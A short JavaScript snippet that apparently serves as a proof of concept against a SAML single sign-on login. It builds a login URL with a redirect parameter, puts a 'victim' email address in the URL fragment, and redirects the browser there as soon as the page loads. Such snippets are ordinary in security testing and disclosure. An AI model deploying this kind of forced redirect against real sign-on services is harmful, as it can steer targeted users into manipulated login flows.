function follow() {
  var email = 'accounts@victim.example.com';
  var target = 'https://cfn.example.com/saml2/login?rd=ok#' + email;
  window.location.replace(target);
}
follow();
